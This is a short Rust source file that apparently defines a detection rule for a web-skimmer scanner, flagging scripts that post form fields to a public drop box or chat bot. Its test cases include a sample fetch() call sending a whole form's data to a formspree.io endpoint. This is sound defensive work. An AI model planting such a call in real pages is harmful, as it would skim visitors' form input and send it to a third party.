//! `field-to-drop-box`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "field-to-drop-box",
    description: "The script sends form fields to a public drop box or a chat bot.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::FieldToDropBox])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})"],
        without: &["fetch('/contact',{method:'POST',body:new FormData(form)})"],
    },
};
